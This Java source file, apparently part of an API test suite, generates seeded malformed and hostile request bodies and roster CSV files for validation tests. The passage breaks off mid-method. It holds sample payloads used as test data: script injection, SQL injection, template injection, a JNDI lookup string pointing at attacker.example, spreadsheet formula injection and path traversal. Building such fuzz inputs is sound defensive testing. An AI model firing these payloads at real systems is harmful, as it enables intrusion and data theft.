package org.ala.mig.security;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.function.Function;
import java.util.function.Predicate;
import java.util.function.Supplier;

/**
 * Malformed and adversarial request bodies, seeded and reproducible: the same seed gives the same
 * bodies in the same order. A body is made from a valid one by one or two mutations of a field
 * (wrong JSON type, null, missing, blank, huge, control characters, halves of surrogate pairs,
 * HTML and script, SQL, formula prefixes, dates and numbers out of range, unknown and duplicated
 * fields, arrays for objects and objects for arrays) or of the whole body (not JSON, truncated,
 * text after the value, nested 2,000 deep, bytes that are not UTF-8, ~1 MB, the wrong content
 * type). Each body says whether the server must take it ({@link Hostile#valid}) — known from the
 * field's rules ({@link Spec}), never from the answer — and, when not, which field it must name.
 *
 * <p>The seed is {@code -Dhostile.seed=...} or a fixed default; tests print it, and print a
 * failing body, so that a failure can be run again.
 */
public final class HostileInputGenerator {

  /** The seed of this run: {@code -Dhostile.seed}, else fixed so that every run sends the same bodies. */
  public static long seed() {
    return Long.getLong("hostile.seed", 20261123L);
  }

  // --- what a generated body is ------------------------------------------------------------------

  /**
   * One request body.
   *
   * @param kind what was done to it ("organizers[0].email: wrong type (number)")
   * @param valid whether the server must accept it
   * @param fields the fields an error must name (any one of them), when not valid
   * @param sent the body as a structure, when valid (what must be stored)
   */
  public record Hostile(int index, String kind, String contentType, byte[] body, boolean valid, List<String> fields,
      Map<String, Object> sent) {

    /** The body as a test failure shows it: printable, at most 600 characters. */
    public String shown() {
      String text = new String(body, StandardCharsets.UTF_8);
      StringBuilder out = new StringBuilder();
      for (int i = 0; i < text.length() && out.length() < 600; i++) {
        char c = text.charAt(i);
        out.append(c < 0x20 || c == 0x7F || Character.isSurrogate(c) || c == '\uFFFD'
            ? String.format("\\u%04X", (int) c) : String.valueOf(c));
      }
      return "#" + index + " [" + kind + "] " + contentType + " (" + body.length + " bytes): " + out
          + (text.length() > 600 ? "..." : "");
    }
  }

  /** A JSON value written as given, unchecked (for tokens no Java value makes). */
  public record Raw(String json) {}

  // --- field rules -------------------------------------------------------------------------------

  /** What a field takes, as the API's documented rules say. */
  public sealed interface Spec permits Text, Email, DateField, Int, Choice, Obj, ListOf {
    boolean required();
  }

  /**
   * Text: at most {@code max} characters after trimming, at least {@code min}; one line unless
   * {@code multiLine}; {@code unique} values get a fresh prefix so that two bodies never name the
   * same MIG.
   */
  public record Text(boolean required, int min, int max, boolean multiLine, boolean unique, Supplier<String> base)
      implements Spec {}

  public record Email(boolean required) implements Spec {}

  /** A date as text YYYY-MM-DD, valid from {@code from} to {@code to} (inclusive). */
  public record DateField(boolean required, LocalDate from, LocalDate to, Supplier<LocalDate> base) implements Spec {}

  public record Int(boolean required, long min, long max, Supplier<Long> base) implements Spec {}

  /** One of {@code allowed}; {@code trimmed} when the server trims before comparing. */
  public record Choice(boolean required, List<String> allowed, boolean trimmed) implements Spec {}

  public record Obj(boolean required, Map<String, Spec> fields) implements Spec {}

  public record ListOf(boolean required, Spec item, int min, int max, int baseSize) implements Spec {}

  /**
   * An endpoint's body: its fields, a rule across fields (null when the fields alone decide), and
   * the field that rule's error names.
   */
  public record Endpoint(String name, Obj body, Predicate<Map<String, Object>> across, String acrossField) {}

  // --- hostile values ----------------------------------------------------------------------------

  /** Text that must be stored and shown as it is: markup, script, SQL, templates, formulas in JSON, Unicode. */
  static final List<String> NASTY = List.of(
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(1)>",
      "'><svg onload=alert(document.cookie)>",
      "javascript:alert(1)",
      "Robert'); DROP TABLE mig;--",
      "' OR '1'='1",
      "1; DELETE FROM member WHERE 1=1",
      "${7*7} #{7*7} {{7*7}} [[${7*7}]] __${T(java.lang.Runtime).getRuntime()}__",
      "${jndi:ldap://attacker.example/a}",
      "=cmd|' /C calc'!A0",
      "+SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
      "%s%n%x%d",
      "../../../../etc/passwd",
      "C:\\Windows\\System32",
      "Zoë Ñúñez-Ødegård",
      "李小龍 와 김민준",
      "שלום עולם مرحبا",
      "\u202Egnp.exe",
      "emoji 🦄📚👩🏽‍💻",
      "a\u0301e\u0301 combining",
      "back\\slash \"quoted\" 'single'",
      "&amp; &lt;b&gt; &#x3C;script&#x3E;",
      "<!-- comment --> <![CDATA[x]]>",
      "Bcc: victim@example.org",
      "null",
      "undefined",
      "true");

  /** Characters no person types, each refused in any text field. */
  static final List<String> FORBIDDEN = List.of("\u0000", "\u0001", "\u0007", "\u0008", "\u000B", "\u000C", "\u001B",
      "\u007F", "\u0085", "\u009B", "\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uFFFF", "\uFFFE");

  /** Values that show nothing. */
  static final List<String> BLANK = List.of("", " ", "   ", "\u00A0", "\u200B", "\uFEFF", "\u2003\u2003", "\u3000");

  static final List<String> GOOD_EMAILS = List.of("ana@lib.example", "o'brien+mig@lib.example",
      "first.last@sub.lib.example", "x_y-z@a.io", "ZOE@LIB.EXAMPLE");

  static final List<String> BAD_EMAILS = List.of("plainaddress", "@lib.example", "ana@", "ana@lib",
      "ana@@lib.example", "ana lib@lib.example", "<script>@lib.example", "ana@lib.example, eve@evil.example",
      "ana@lib.example; eve@evil.example", "ana@lib.example\r\nBcc: eve@evil.example", "ana\u0000@lib.example",
      "\uD800@lib.example", "a".repeat(250) + "@lib.example", "ana@lib.example\u0085", "ana@<lib>.example");

  private final SplittableRandom random;
  private int counter;

  public HostileInputGenerator(long seed) {
    this.random = new SplittableRandom(seed);
  }

  public SplittableRandom random() {
    return random;
  }

  public int nextInt(int bound) {
    return random.nextInt(bound);
  }

  public <T> T pick(List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  public boolean chance(double p) {
    return random.nextDouble() < p;
  }

  /** A token no other body of this run has. */
  public String unique() {
    return "H" + Integer.toString(++counter, 36) + Long.toString(random.nextLong() & 0xFFFFFFL, 36);
  }

  /** Valid text that is hostile to whatever shows it. */
  public String nasty() {
    return pick(NASTY);
  }

  // --- JSON bodies -------------------------------------------------------------------------------

  /** The next body for {@code endpoint}. */
  public Hostile next(Endpoint endpoint) {
    int index = counter;
    Map<String, Object> body = validObject(endpoint.body());
    double roll = random.nextDouble();
    if (roll < 0.16) {
      return wholeBody(index, endpoint, body);
    }
    List<Mutation> mutations = new ArrayList<>();
    List<String> touched = new ArrayList<>();
    mutations.add(mutate(endpoint.body(), body, touched));
    if (chance(0.15) && endpoint.body().fields().size() > 1) {
      mutations.add(mutate(endpoint.body(), body, touched));   // another field: both count
    }
    boolean valid = mutations.stream().allMatch(m -> m.valid);
    List<String> fields = new ArrayList<>();
    mutations.stream().filter(m -> !m.valid).forEach(m -> fields.add(m.path));
    if (valid && endpoint.across() != null && !endpoint.across().test(body)) {
      valid = false;
      fields.add(endpoint.acrossField());
    }
    String kind = String.join(" + ", mutations.stream().map(m -> m.path + ": " + m.what).toList());
    byte[] bytes = json(body).getBytes(StandardCharsets.UTF_8);
    return new Hostile(index, kind, "application/json", bytes, valid, fields, valid ? body : null);
  }

  /** A valid body for {@code endpoint}, as sent. */
  public Hostile valid(Endpoint endpoint) {
    Map<String, Object> body = validObject(endpoint.body());
    return new Hostile(counter, "valid", "application/json", json(body).getBytes(StandardCharsets.UTF_8), true,
        List.of(), body);
  }

  private Hostile wholeBody(int index, Endpoint endpoint, Map<String, Object> body) {
    String json = json(body);
    String first = body.keySet().iterator().next();
    String text = firstTextField(endpoint.body(), body);
    int pick = random.nextInt(17);
    return switch (pick) {
      case 0 -> invalid(index, "not JSON", "application/json", pick(List.of("hello", "kind=ESTABLISH&migName=x",
          "<petition><kind>ESTABLISH</kind></petition>", "{'kind': 'single quotes'}", "{kind: \"ESTABLISH\"}",
          "{\"a\":1,}", "[1,2,", "NaN", "{\"x\": 0x1F}", "\"unterminated")), "body");
      case 1 -> invalid(index, "empty body", "application/json", "", "body");
      case 2 -> invalid(index, "JSON null", "application/json", pick(List.of("null", " null ")), "body");
      case 3 -> invalid(index, "array for the object", "application/json", pick(List.of("[]", "[" + json + "]", "[[]]")),
          "body");
      case 4 -> invalid(index, "scalar for the object", "application/json", pick(List.of("\"text\"", "42", "true", "-1.5e3")),
          "body");
      case 5 -> invalid(index, "truncated", "application/json", json.substring(0, 1 + random.nextInt(json.length() - 1)),
          "body");
      case 6 -> invalid(index, "text after the value", "application/json",
          json + pick(List.of(" trailing", "{}", json, "]", ",", "null")), "body");
      case 7 -> invalid(index, "nested 2000 deep", "application/json",
          "{\"" + first + "\": " + "[".repeat(2000) + "]".repeat(2000) + "}", first, "body");
      case 8 -> invalid(index, "nested 200 deep in a field", "application/json",
          json.replaceFirst("\\{", "{\"" + first + "\": " + "{\"a\":".repeat(200) + "1" + "}".repeat(200) + ","),
          first, "body");
      case 9 -> {
        // bytes that are not UTF-8 inside a text value
        byte[] bytes = json.getBytes(StandardCharsets.UTF_8);
        String marker = "\"" + text + "\":\"";
        int at = json.indexOf(marker);
        byte[] bad = pick(List.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC3, (byte) 0x28},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80},
            new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xE2, (byte) 0x82}));
        int insert = at < 0 ? 1 : json.substring(0, at + marker.length()).getBytes(StandardCharsets.UTF_8).length;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(bytes, 0, insert);
        out.writeBytes(bad);
        out.write(bytes, insert, bytes.length - insert);
        yield new Hostile(index, "invalid UTF-8 in " + text, "application/json", out.toByteArray(), false,
            List.of(text, "body"), null);
      }
      case 10 -> invalid(index, "wrong content type", pick(List.of("text/plain", "application/xml",
          "application/x-www-form-urlencoded", "text/csv", "application/octet-stream", "multipart/form-data; boundary=x",
          "application/jsonx", "text/html")), json, "body");
      case 11 -> {
        // ~1 MB of text in a field: too long for any field
        Map<String, Object> copy = new LinkedHashMap<>(body);
        copy.put(text, "A".repeat(1_000_000 + random.nextInt(50_000)));
        yield invalid(index, "1 MB in " + text, "application/json", json(copy), text);
      }
      case 12 -> {
        // ~1 MB of JSON whitespace around a valid body: still that body
        String padding = pick(List.of(" ", "\n", "\t", "\r\n")).repeat(1_000_000 / 2);
        yield new Hostile(index, "1 MB of whitespace around a valid body", "application/json",
            (padding + json + padding).getBytes(StandardCharsets.UTF_8), true, List.of(), body);
      }
      case 13 -> invalid(index, "field named twice", "application/json",
          "{\"" + first + "\": " + json(body.get(first)) + ", " + json.substring(1), first);
      case 14 -> {
        String key = pick(List.of("x", "__proto__", "constructor", first.toUpperCase(), first + " ", "id", "status"));
        yield invalid(index, "unknown field " + key, "application/json", "{" + json(key) + ": 1, " + json.substring(1),
            key);
      }
      case 15 -> invalid(index, "JSON with comments", "application/json", "/* hi */ " + json, "body");
      default -> invalid(index, "lone surrogate escape as a key", "application/json",
          "{\"\\ud800\": 1, " + json.substring(1), "*");
    };
  }

  private static Hostile invalid(int index, String kind, String contentType, String body, String... fields) {
    return new Hostile(index, kind, contentType, body.getBytes(StandardCharsets.UTF_8), false, List.of(fields), null);
  }

  private static String firstTextField(Obj spec, Map<String, Object> body) {
    for (Map.Entry<String, Spec> field : spec.fields().entrySet()) {
      if (field.getValue() instanceof Text && body.get(field.getKey()) instanceof String) {
        return field.getKey();
      }
    }
    return spec.fields().keySet().iterator().next();
  }

  // --- valid values --------------------------------------------------------------------------------

  Map<String, Object> validObject(Obj spec) {
    Map<String, Object> body = new LinkedHashMap<>();
    spec.fields().forEach((name, field) -> {
      if (field.required() || chance(0.3)) {
        body.put(name, validValue(field));
      }
    });
    return body;
  }

  Object validValue(Spec spec) {
    if (spec instanceof Text t) {
      return validText(t);
    }
    if (spec instanceof Email) {
      return pick(GOOD_EMAILS);
    }
    if (spec instanceof DateField d) {
      return d.base().get().toString();
    }
    if (spec instanceof Int i) {
      return i.base().get();
    }
    if (spec instanceof Choice c) {
      return pick(c.allowed());
    }
    if (spec instanceof Obj o) {
      return validObject(o);
    }
    ListOf l = (ListOf) spec;
    List<Object> items = new ArrayList<>();
    for (int i = 0; i < l.baseSize(); i++) {
      items.add(validValue(l.item()));
    }
    return items;
  }

  private String validText(Text t) {
    String text = t.base().get();
    if (chance(0.25)) {
      text = text + " " + nasty();
    }
    return unique(t, text);
  }

  private String unique(Text t, String text) {
    String value = t.unique() ? unique() + " " + text : text;
    return value.length() > t.max() ? value.substring(0, t.max()).strip() : value;
  }

  // --- mutations ---------------------------------------------------------------------------------

  private record Mutation(String path, String what, boolean valid) {}

  /** Changes one field somewhere in {@code body} (in place) and says whether the body stays valid. */
  private Mutation mutate(Obj spec, Map<String, Object> body, List<String> touched) {
    List<String> names = new ArrayList<>(spec.fields().keySet());
    names.removeAll(touched);
    String name = pick(names);
    touched.add(name);
    Spec field = spec.fields().get(name);
    Object current = body.get(name);
    // go deeper into lists and objects that are there, half of the time
    if (current instanceof Map<?, ?> map && field instanceof Obj nested && chance(0.6)) {
      @SuppressWarnings("unchecked")
      Mutation inner = mutate(nested, (Map<String, Object>) map, new ArrayList<>());
      return new Mutation(name + "." + inner.path, inner.what, inner.valid);
    }
    if (current instanceof List<?> list && !list.isEmpty() && field instanceof ListOf of && chance(0.6)) {
      @SuppressWarnings("unchecked")
      List<Object> items = (List<Object>) list;
      int i = random.nextInt(items.size());
      if (of.item() instanceof Obj item && items.get(i) instanceof Map<?, ?> element && chance(0.8)) {
        @SuppressWarnings("unchecked")
        Mutation inner = mutate(item, (Map<String, Object>) element, new ArrayList<>());
        return new Mutation(name + "[" + i + "]." + inner.path, inner.what, inner.valid);
      }
      Value v = value(of.item(), true);
      items.set(i, v.value);
      return new Mutation(name + "[" + i + "]", v.what, v.valid);
    }
    if (chance(0.08)) {
      boolean hadIt = body.containsKey(name);
      body.remove(name);
      return new Mutation(name, "missing" + (hadIt ? "" : " (was not there)"), !field.required());
    }
    Value v = value(field, false);
    if (v.missing) {
      body.remove(name);
    } else {
      body.put(name, v.value);
    }
    return new Mutation(name, v.what, v.valid);
  }

  private record Value(Object value, String what, boolean valid, boolean missing) {
    Value(Object value, String what, boolean valid) {
      this(value, what, valid, false);
    }
  }

  /** A new value for a field of this spec, hostile or not, with whether the field takes it. */
  Value value(Spec spec, boolean inList) {
    if (chance(0.25)) {
      return wrongType(spec);
    }
    if (chance(0.07)) {
      return new Value(null, "null", !spec.required() && !inList);
    }
    if (spec instanceof Text t) {
      return text(t);
    }
    if (spec instanceof Email) {
      return chance(0.5) ? new Value(pick(GOOD_EMAILS), "good email", true)
          : chance(0.8) ? new Value(pick(BAD_EMAILS), "bad email", false)
          : new Value(pick(BLANK), "blank email", false);
    }
    if (spec instanceof DateField d) {
      return date(d);
    }
    if (spec instanceof Int i) {
      return integer(i);
    }
    if (spec instanceof Choice c) {
      return choice(c);
    }
    if (spec instanceof Obj o) {
      return object(o);
    }
    return list((ListOf) spec);
  }

  private Value wrongType(Spec spec) {
    List<Object> candidates = new ArrayList<>(List.of(0, -1, 2027, 1.5, 1e300, true, false, List.of(), List.of("x"),
        Map.of(), Map.of("value", "x"), new Raw("[[[]]]"), new Raw("1e400"), new Raw("-0"),
        new Raw("123456789012345678901234567890")));
    if (!(spec instanceof Text || spec instanceof Email || spec instanceof DateField || spec instanceof Choice)) {
      candidates.addAll(List.of("text", "", "2027", "true"));
    }
    Object value = pick(candidates);
    boolean sameShape = spec instanceof Int i ? value instanceof Integer n && n >= i.min() && n <= i.max()
        : spec instanceof Obj o ? value instanceof Map<?, ?> m && m.isEmpty()
            && o.fields().values().stream().noneMatch(Spec::required)
        : spec instanceof ListOf l && value instanceof List<?> list && list.isEmpty() && l.min() == 0;
    return new Value(value, "wrong type (" + json(value) + ")", sameShape);
  }

  private Value text(Text t) {
    // mostly the kinds that are refused (blank, huge, too long, forbidden, too short, line breaks)
    int pick = chance(0.75) ? pick(List.of(0, 1, 2, 6, 10, 7)) : random.nextInt(14);
    String base = t.base().get();
    String value = switch (pick) {
      case 0 -> pick(BLANK);
      case 1 -> repeat(100_000 + random.nextInt(60_000));
      case 2 -> (unique(t, base) + " " + "x".repeat(t.max())).substring(0, t.max() + 1);
      case 3 -> unique(t, base + " " + "y".repeat(t.max()));
      case 4, 5 -> unique(t, pick(NASTY) + " " + base);
      case 6 -> insert(unique(t, base), pick(FORBIDDEN));
      case 7 -> insert(unique(t, base + " second line"), pick(List.of("\n", "\r\n", "\r", "\t")));
      case 8 -> pick(List.of("  ", "\t", "\n ", "\u2003", "\u000B")) + unique(t, base) + pick(List.of(" ", "\n", "\t  "));
      case 9 -> "\u200B" + unique(t, base);
      case 10 -> t.unique() ? unique() : base.substring(0, Math.max(1, Math.min(base.length(), t.min() - 1)));
      case 11 -> unique(t, base);
      case 12 -> pick(List.of("=cmd|' /C calc'!A0", "+1", "-1", "@A1", "\t=1", "=HYPERLINK(\"http://evil\")")) + " "
          + unique(t, base);
      default -> unique(t, "\uD83E\uDD84 " + base + " \u05E9\u05DC\u05D5\u05DD");
    };
    String[] what = {"blank", "huge", "one character too long", "exactly as long as allowed", "markup, script or SQL",
        "markup, script or SQL", "forbidden character", "line break or tab", "spaces around", "zero-width space",
        "shorter than allowed", "plain", "formula prefix", "emoji and RTL"};
    return new Value(value, what[pick], takes(t, value));
  }

  /**
   * Whether a text field takes {@code value}, by the rules the README gives: trimmed, it shows
   * something, has from {@code min} to {@code max} characters, and holds no control character
   * (line breaks and tabs only in a field of several lines), no half of a surrogate pair and no
   * U+FFFE or U+FFFF.
   */
  static boolean takes(Text t, String value) {
    String s = value.strip();
    boolean blank = s.codePoints().allMatch(cp -> Character.isWhitespace(cp) || Character.isSpaceChar(cp)
        || Character.getType(cp) == Character.FORMAT || Character.getType(cp) == Character.CONTROL);
    if (blank) {
      return !t.required();
    }
    if (s.length() > t.max() || s.length() < t.min()) {
      return false;
    }
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))) {
        i++;
      } else if (Character.isSurrogate(c) || c == '\uFFFE' || c == '\uFFFF') {
        return false;
      } else if (c == '\n' || c == '\r' || c == '\t') {
        if (!t.multiLine()) {
          return false;
        }
      } else if (Character.getType(c) == Character.CONTROL) {
        return false;
      }
    }
    return true;
  }

  private String repeat(int length) {
    return pick(List.of("A", "é", "<", "\u6F22")).repeat(length);
  }

  private String insert(String value, String what) {
    int at = 1 + random.nextInt(Math.max(1, value.length() - 1));
    return value.substring(0, Math.min(at, value.length())) + what + value.substring(Math.min(at, value.length()));
  }

  private Value date(DateField d) {
    int pick = random.nextInt(8);
    LocalDate base = d.base().get();
    return switch (pick) {
      case 0 -> new Value(pick(List.of("2027-02-30", "2027-13-01", "2027-00-10", "27-01-01", "2027/01/01",
          "01/02/2027", "2027-1-1", "2027-01-01T00:00:00Z", "2027-01-01 ", " 2027-01-01", "+999999999-12-31",
          "-0001-01-01", "0000-00-00", "tomorrow", "2027-01-01\u0000", "２０２７-０１-０１")), "malformed date", false);
      case 1 -> new Value(pick(List.of(20270101, List.of(2027, 1, 1), Map.of("year", 2027))), "date as number or array",
          false);
      case 2 -> {
        LocalDate far = LocalDate.parse(pick(List.of("0001-01-01", "1000-01-01", "9999-12-31", "1899-12-31")));
        yield new Value(far.toString(), "date far away", inRange(d, far));
      }
      case 3 -> {
        LocalDate date = d.from() == null ? base.minusYears(200) : d.from().minusDays(1 + random.nextInt(400));
        yield new Value(date.toString(), "just before the range", inRange(d, date));
      }
      case 4 -> {
        LocalDate date = d.to() == null ? base.plusYears(200) : d.to().plusDays(1 + random.nextInt(400));
        yield new Value(date.toString(), "just after the range", inRange(d, date));
      }
      case 5 -> new Value("", "empty date", !d.required());
      default -> new Value(base.toString(), "a date in range", true);
    };
  }

  private static boolean inRange(DateField d, LocalDate date) {
    return (d.from() == null || !date.isBefore(d.from())) && (d.to() == null || !date.isAfter(d.to()));
  }

  private Value integer(Int i) {
    int pick = random.nextInt(7);
    return switch (pick) {
      case 0 -> new Value(i.min() - 1 - random.nextInt(1000), "below the range", false);
      case 1 -> new Value(i.max() + 1 + random.nextInt(1000), "above the range", false);
      case 2 -> new Value(pick(List.of(2147483648L, -2147483649L, Long.MAX_VALUE)), "beyond an int", false);
      case 3 -> new Value(pick(List.of(2027.5, 2027.0, 1e3)), "fraction or float", false);
      case 4 -> new Value(String.valueOf(i.base().get()), "number as text", false);
      default -> new Value(i.base().get(), "in range", true);
    };
  }

  private Value choice(Choice c) {
    String good = pick(c.allowed());
    int pick = random.nextInt(7);
    return switch (pick) {
      case 0 -> new Value(good.toLowerCase(), "lower case", c.allowed().contains(good.toLowerCase()));
      case 1 -> new Value(pick(List.of(" ", "\t", "\n")) + good + pick(List.of(" ", "")), "padded", c.trimmed());
      case 2 -> new Value(pick(List.of("MERGE", "ALL", "*", "'; DROP TABLE mig;--", "<b>BUDGET</b>", "NULL", "0")),
          "unknown", false);
      case 3 -> new Value(pick(BLANK), "blank", false);
      case 4 -> new Value(good + "\u0000", "with NUL", false);
      default -> new Value(good, "allowed", true);
    };
  }

  private Value object(Obj o) {
    int pick = random.nextInt(4);
    return switch (pick) {
      case 0 -> new Value(List.of(validObject(o)), "array for the object", false);
      case 1 -> {
        Map<String, Object> value = validObject(o);
        value.put(pick(List.of("extra", "admin", "id")), true);
        yield new Value(value, "unknown field inside", false);
      }
      case 2 -> new Value(new Raw("{\"" + o.fields().keySet().iterator().next() + "\": \"a\", \""
          + o.fields().keySet().iterator().next() + "\": \"b\"}"), "field named twice inside", false);
      default -> new Value(validObject(o), "another valid object", true);
    };
  }

  private Value list(ListOf l) {
    int pick = random.nextInt(6);
    return switch (pick) {
      case 0 -> new Value(List.of(), "empty list", l.min() == 0);
      case 1 -> {
        List<Object> items = new ArrayList<>();
        int size = l.max() + 1;
        if (size > 1000) {
          yield new Value(new ArrayList<>(List.of(validValue(l.item()))), "one item", l.min() <= 1);
        }
        for (int i = 0; i < size; i++) {
          items.add(validValue(l.item()));
        }
        yield new Value(items, "one item too many", false);
      }
      case 2 -> {
        List<Object> items = new ArrayList<>();
        for (int i = 0; i < Math.max(0, l.min() - 1); i++) {
          items.add(validValue(l.item()));
        }
        yield new Value(items, "one item too few", l.min() == 0);
      }
      case 3 -> new Value(validValue(l.item()), "object for the list", false);
      case 4 -> {
        List<Object> items = new ArrayList<>();
        for (int i = 0; i < l.baseSize(); i++) {
          items.add(validValue(l.item()));
        }
        items.set(random.nextInt(items.size()), null);
        yield new Value(items, "null item", false);
      }
      default -> {
        List<Object> items = new ArrayList<>();
        for (int i = 0; i < l.baseSize(); i++) {
          items.add(validValue(l.item()));
        }
        yield new Value(items, "valid list", true);
      }
    };
  }

  // --- roster CSV ----------------------------------------------------------------------------------

  /** One roster line as it must be stored: {member_id, name, email or null, good_standing_through}. */
  public record Member(String memberId, String name, String email, String goodStandingThrough) {}

  /**
   * The next roster file for {@code POST /api/roster}. Valid files carry, in {@code sent}, the
   * members to be stored ({@code "members"}: a list of {@link Member}) and the lines to be refused
   * ({@code "rejected"}: line number to the column, or "fields" for a wrong number of fields, the
   * message must begin with).
   */
  public Hostile nextRoster() {
    int index = counter;
    if (chance(0.22)) {
      return wholeRoster(index);
    }
    StringBuilder csv = new StringBuilder();
    if (chance(0.15)) {
      csv.append('\uFEFF');
    }
    csv.append(pick(List.of("member_id,name,email,good_standing_through", "MEMBER_ID, Name ,EMAIL,good_standing_through",
        "\"member_id\",\"name\",\"email\",\"good_standing_through\"")));
    String newline = pick(List.of("\n", "\r\n"));
    csv.append(newline);
    int line = 2;
    List<Member> members = new ArrayList<>();
    Map<Integer, String> rejected = new LinkedHashMap<>();
    List<String> ids = new ArrayList<>();
    int count = 1 + random.nextInt(25);
    for (int i = 0; i < count; i++) {
      if (chance(0.1)) {
        csv.append(pick(List.of("", ",,,", " , , , "))).append(newline);
        line++;
      }
      RosterLine r = rosterLine(ids);
      csv.append(r.text).append(newline);
      if (r.member != null) {
        members.add(r.member);
        ids.add(r.member.memberId());
      } else {
        rejected.put(line, r.column);
      }
      line += (int) r.text.chars().filter(c -> c == '\n').count() + 1;
    }
    Map<String, Object> sent = new LinkedHashMap<>();
    sent.put("members", members);
    sent.put("rejected", rejected);
    return new Hostile(index, "roster of " + count + " lines, " + rejected.size() + " refused", "text/csv",
        csv.toString().getBytes(StandardCharsets.UTF_8), true, List.of(), sent);
  }

  private record RosterLine(String text, Member member, String column) {}

  private RosterLine rosterLine(List<String> earlier) {
    String id = "HX" + unique().toUpperCase();
    String name = pick(List.of("Rosa Díaz", "Sam Okafor", "Li Wei", "Zoë Ødegård")) + (chance(0.4) ? " " + safeNasty() : "");
    String email = chance(0.3) ? "" : id.toLowerCase() + "@lib.example";
    String date = LocalDate.of(2025 + random.nextInt(5), 1 + random.nextInt(12), 1 + random.nextInt(28)).toString();
    int pick = random.nextInt(16);
    switch (pick) {
      case 0 -> { // a formula in some column
        String[] prefixes = {"=", "+", "-", "@", "\t="};
        int column = random.nextInt(4);
        String formula = pick(List.of(prefixes)) + pick(List.of("cmd|' /C calc'!A0", "SUM(1+1)", "HYPERLINK(\"http://evil\")",
            "1+1", "Smith"));
        String[] fields = {id, name, email.isEmpty() ? "x@lib.example" : email, date};
        fields[column] = (chance(0.3) ? " " : "") + formula;
        return new RosterLine(csvLine(fields), null, COLUMNS.get(column));
      }
      case 1 -> {
        return new RosterLine(csvLine(new String[] {id, name, email}), null, "fields");
      }
      case 2 -> {
        return new RosterLine(csvLine(new String[] {id, name, email, date, "extra"}), null, "fields");
      }
      case 3 -> {
        String bad = pick(List.of("M 1", "M<1>", "M'1", "X".repeat(33), "Ñ1", "M_1", "M.1", "M/1"));
        return new RosterLine(csvLine(new String[] {bad, name, email, date}), null, "member_id");
      }
      case 4 -> {
        return new RosterLine(csvLine(new String[] {id, pick(List.of("", "  ", "x".repeat(201), "é".repeat(250))), email,
            date}), null, "name");
      }
      case 5 -> {
        return new RosterLine(csvLine(new String[] {id, name, pick(List.of("plain", "a@b", "a b@lib.example",
            "<a@lib.example>", "a@lib.example; b@lib.example", "x".repeat(250) + "@lib.example")), date}), null, "email");
      }
      case 6 -> {
        return new RosterLine(csvLine(new String[] {id, name, email, pick(List.of("2027-02-30", "2027/01/01", "01.02.2027",
            "0000-01-01", "1899-12-31", "tomorrow", "", "2027-1-1", "+2027-01-01", "20270101"))}), null,
            "good_standing_through");
      }
      case 7 -> {
        if (earlier.isEmpty()) {
          return new RosterLine(csvLine(new String[] {"", name, email, date}), null, "member_id");
        }
        String again = pick(earlier);
        return new RosterLine(csvLine(new String[] {chance(0.5) ? again.toLowerCase() : again, name, email, date}), null,
            "member_id");
      }
      case 8 -> {
        return new RosterLine("\"" + id + "\"x," + csvField(name) + "," + email + "," + date, null, "member_id");
      }
      case 9 -> { // a name over several lines, quoted: stored on one line
        String text = "\"" + name.replace("\"", "\"\"") + "\n  second\"";
        return new RosterLine(id + "," + text + "," + email + "," + date,
            new Member(id, (name + " second").replaceAll("\\s+", " ").strip(), blankToNull(email), date), null);
      }
      case 10 -> { // spaces around every value
        return new RosterLine(" " + id + " , " + csvField(name) + " ,  " + email + " , " + date + " ",
            new Member(id, name.strip().replaceAll("\\s+", " "), blankToNull(email), date), null);
      }
      case 11 -> { // lifetime members
        return new RosterLine(csvLine(new String[] {id, name, email, "9999-12-31"}),
            new Member(id, name.replaceAll("\\s+", " ").strip(), blankToNull(email), "9999-12-31"), null);
      }
      default -> {
        return new RosterLine(csvLine(new String[] {id, name, email, date}),
            new Member(id, name.replaceAll("\\s+", " ").strip(), blankToNull(email), date), null);
      }
    }
  }

  static final List<String> COLUMNS = List.of("member_id", "name", "email", "good_standing_through");

  /** Nasty text that a spreadsheet would not run: no formula prefix, no line break. */
  private String safeNasty() {
    String text;
    do {
      text = nasty();
    } while ("=+-@".indexOf(text.charAt(0)) >= 0 || text.indexOf('\u202E') >= 0);
    return text;
  }

  private static String blankToNull(String s) {
    return s == null || s.isBlank() ? null : s.strip();
  }

  private static String csvLine(String[] fields) {
    StringBuilder line = new StringBuilder();
    for (int i = 0; i < fields.length; i++) {
      if (i > 0) {
        line.append(',');
      }
      line.append(csvField(fields[i]));
    }
    return line.toString();
  }

  /** A field quoted when it must be (comma, quote, line break) or when it starts with a tab. */
  static String csvField(String value) {
    if (value.contains(",") || value.contains("\"") || value.contains("\n") || value.contains("\r")
        || value.startsWith("\t")) {
      return "\"" + value.replace("\"", "\"\"") + "\"";
    }
    return value;
  }

  private Hostile wholeRoster(int index) {
    String header = "member_id,name,email,good_standing_through\n";
    String good = "HX" + unique().toUpperCase() + ",Ana Núñez,,2027-06-30\n";
    int pick = random.nextInt(11);
    return switch (pick) {
      case 0 -> rosterInvalid(index, "empty", "text/csv", new byte[0]);
      case 1 -> rosterInvalid(index, "another header", "text/csv", (pick(List.of("id,name,email,date",
          "member_id,name", "member_id;name;email;good_standing_through", "<html>", "name,member_id,email,good_standing_through"))
          + "\n" + good).getBytes(StandardCharsets.UTF_8));
      case 2 -> {
        byte[] bad = pick(List.of(new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {(byte) 0xC0, (byte) 0xAF},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, "Zo\u00EB".getBytes(StandardCharsets.ISO_8859_1)));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes((header + "HX" + unique().toUpperCase() + ",").getBytes(StandardCharsets.UTF_8));
